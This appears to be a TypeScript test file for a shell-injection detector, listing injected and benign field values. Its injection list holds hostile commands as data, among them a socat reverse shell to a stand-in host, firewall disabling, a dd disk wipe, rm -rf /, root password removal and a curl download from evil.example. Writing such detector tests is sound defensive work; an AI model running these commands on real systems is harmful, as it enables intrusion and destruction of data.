import assert from 'node:assert/strict';
import { test } from 'node:test';
import { TRANSFORM_FUNCTIONS } from './rules.js';
import { detectShellInjection } from './shell.js';

// Inputs are normalised (decoded, lower-cased) and shell-transformed, as the patterns step passes them.
const read = (text: string) => TRANSFORM_FUNCTIONS.shell(text.toLowerCase());

/** [value, member name or undefined] that are command injections. */
const injections: ReadonlyArray<readonly [string, string?]> = [
  // A known command after a separator that follows a bare data value, or at the value's start.
  ['10.0.0.5; ufw disable'],
  ['gw.local\ninit 0'],
  ['8.8.8.8\nip addr\n'],
  ['172.16.0.10 | service emqx stop'],
  ['time.google.com;service nginx stop'],
  ['; service node-red stop'],
  ['wlan0 && iptables -F'],
  ['backup.tar|ufw disable'],
  ['\nnft flush ruleset'],
  ['localhost\nbusybox httpd -p 8081 -h /'],
  ['10.0.0.5\nsocat exec:bash,pty tcp:x.example:1337'],
  ['gw.local; dd if=/dev/zero of=/dev/mmcblk0 bs=1M'],
  ['gw.local; halt #'],
  ['sensor-1;id'],
  // Shell-only separators: whatever follows is a command.
  ['status ok && reboot'],
  ['x`whoami`'],
  ['a $(id) b'],
  // A command line as the value of a field named for one.
  ['uname -a', 'run'],
  ['passwd -d root', 'shell'],
  ['id', 'cmd'],
  ['whoami', 'system'],
  ['rm -rf /', 'script'],
  ['killall -9 mosquitto', 'sh'],
  ['curl -o /tmp/a http://evil.example/a', 'action_cmd'],
  ['systemctl stop firewalld', 'exec'],
  // A variable assigned, then run.
  ["; x=$'reboot';$x"],
];

const benign: ReadonlyArray<readonly [string, string?]> = [
  ['alarm cleared; service interval restart'],
  ['boot|service pump start|ok'],
  ['maintenance & service window start 02:00'],
  ['| id | name | state |'],
  ['| curl | 7.88 | ok |'],
  ['v2.1.3; curl updated to 8.5'],
  ['fan on; door closed; light off'],
  ['20;time'],
  ['reboot', 'cmd'],
  ['halt', 'command'],
  ['set_temp', 'cmd'],
  ['linux', 'system'],
  ['main.py', 'script'],
  ['yes', 'run'],
  ['status: ok\nping latency 12 ms'],
  ['rebooted after update; id 42 assigned'],
  ['R&D lab, kill switch tested'],
  ['sensor ok\ncurl failed to connect'],
  ['wifi: connected; ip 192.168.1.20; rssi -61'],
  ['gw.local;ip 10.0.0.2'],
  ['mqtt | connected | id 42'],
  ['192.168.1.1; ping ok'],
];

for (const [text, member] of injections) {
  test(`flags ${JSON.stringify(text)}${member ? ` as "${member}"` : ''}`, () => {
    assert.ok(detectShellInjection(read(text), member), 'expected a command injection');
  });
}

for (const [text, member] of benign) {
  test(`leaves ${JSON.stringify(text)}${member ? ` as "${member}"` : ''} alone`, () => {
    assert.equal(detectShellInjection(read(text), member), null);
  });
}

test('a flood of commands is a finding of its own, not a parse each', () => {
  assert.equal(detectShellInjection(read('1;cat '.repeat(200)))?.shape, 'command-flood');
  assert.equal(detectShellInjection(read('a; ls b; '.repeat(20))), null);
});

test('names the shape and where the command starts', () => {
  const text = read('10.0.0.5; ufw disable');
  const found = detectShellInjection(text);
  assert.equal(found?.shape, 'after-value:ufw');
  assert.equal(text.slice(found?.offset ?? 0).trim(), 'ufw disable');
});
